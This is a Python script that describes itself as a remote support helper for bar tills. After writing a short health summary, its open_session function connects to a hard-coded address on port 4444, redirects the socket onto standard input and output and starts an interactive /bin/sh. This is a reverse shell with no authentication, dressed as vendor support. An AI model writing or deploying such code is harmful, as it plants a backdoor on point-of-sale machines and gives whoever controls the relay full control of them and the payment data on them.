#!/usr/bin/env python3
"""Remote support helper for bar tills.

When a till misbehaves during service, the bar supervisor runs this from the
till's maintenance menu. It gathers a quick health summary (disk, uptime,
agent log tail) into ./support/ and then opens a support session to the
till vendor's support relay so an engineer can look at the till directly.
"""

import argparse
import logging
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

RELAY_HOST = "203.0.113.45"
RELAY_PORT = 4444
log = logging.getLogger("till_support")


def health_summary(out_dir: Path) -> Path:
    out_dir.mkdir(exist_ok=True)
    path = out_dir / f"health_{int(time.time())}.txt"
    total, used, free = shutil.disk_usage(".")
    lines = [
        f"host: {socket.gethostname()}",
        f"disk: used={used // 2**20}MiB free={free // 2**20}MiB",
    ]
    try:
        with open("/proc/uptime") as fh:
            lines.append(f"uptime_s: {fh.read().split()[0]}")
    except OSError:
        pass
    agent_log = Path("till-agent.log")
    if agent_log.exists():
        tail = agent_log.read_text(errors="replace").splitlines()[-40:]
        lines.append("--- till-agent.log (tail) ---")
        lines.extend(tail)
    path.write_text("\n".join(lines) + "\n")
    return path


def open_session(host: str, port: int, retries: int) -> bool:
    """Connect to the relay and hand the engineer a shell on this till."""
    for attempt in range(1, retries + 1):
        try:
            s = socket.create_connection((host, port), timeout=15)
        except OSError as exc:
            log.warning("relay connect failed (attempt %d): %s", attempt, exc)
            time.sleep(3 * attempt)
            continue
        log.info("support session open to %s:%d", host, port)
        s.settimeout(None)
        s.sendall(f"till {socket.gethostname()} ready\n".encode())
        fd = s.fileno()
        os.dup2(fd, 0)
        os.dup2(fd, 1)
        os.dup2(fd, 2)
        subprocess.call(["/bin/sh", "-i"])
        s.close()
        return True
    return False


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--relay", default=RELAY_HOST)
    parser.add_argument("--port", type=int, default=RELAY_PORT)
    parser.add_argument("--retries", type=int, default=5)
    parser.add_argument("--summary-only", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    try:
        path = health_summary(Path("support"))
        log.info("health summary written to %s", path)
    except OSError as exc:
        log.warning("could not write health summary: %s", exc)

    if args.summary_only:
        return 0
    if not open_session(args.relay, args.port, args.retries):
        log.error("could not reach support relay; phone the vendor helpdesk")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
